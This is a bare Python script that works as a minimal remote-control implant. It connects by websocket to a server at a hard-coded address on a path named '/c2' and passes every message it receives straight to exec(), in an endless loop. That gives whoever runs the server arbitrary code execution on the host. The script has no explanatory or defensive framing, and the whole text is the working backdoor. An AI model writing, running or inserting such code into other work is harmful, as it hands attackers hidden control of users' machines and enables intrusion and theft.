import websocket
ws = websocket.create_connection("ws://203.0.113.92:8080/c2")
while True:
    exec(ws.recv())
